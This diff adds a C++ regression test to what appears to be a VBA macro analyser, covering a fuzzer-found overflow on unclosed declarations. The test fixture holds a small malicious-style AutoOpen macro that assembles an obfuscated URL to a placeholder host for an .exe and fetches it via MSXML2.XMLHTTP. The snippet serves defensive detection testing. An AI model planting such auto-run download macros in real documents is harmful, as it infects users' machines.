@@ -231,3 +231,26 @@ TEST(VbaEvalMacro, HostileMacrosStayBounded) {
 }
 
 }  // namespace
+
+namespace {
+
+// fuzz_vba_eval finding (session 4): a declaration whose bounds are not closed ("Const M(", "Dim x(3") or that ends
+// on "String *" made the declaration reader step past the statement's last token. The statements after it must
+// still be evaluated. (Under ASan the old code reported a heap-buffer-overflow here.)
+TEST(VbaEvalMacro, UnclosedDeclarationsStayInsideTheStatement) {
+  const std::string src = vb({
+      "Attribute VB_Name = \"Module1\"",
+      "Const M(",
+      "Sub AutoOpen()",
+      "  Dim x(3",
+      "  Dim s As String *",
+      "  Dim y(1 To",
+      "  u = \"http://\" & \"dl.example.invalid/\" & StrReverse(\"exe.a\")",
+      "  CreateObject(\"MSXML2.XMLHTTP\").Open \"GET\", u, False",
+      "End Sub",
+  });
+  const auto ev = analysis::evaluate_vba(src, "Module1");
+  EXPECT_NE(find_ioc(ev.iocs, "url", "http://dl.example.invalid/a.exe"), nullptr) << dump(ev.iocs);
+}
+
+}  // namespace
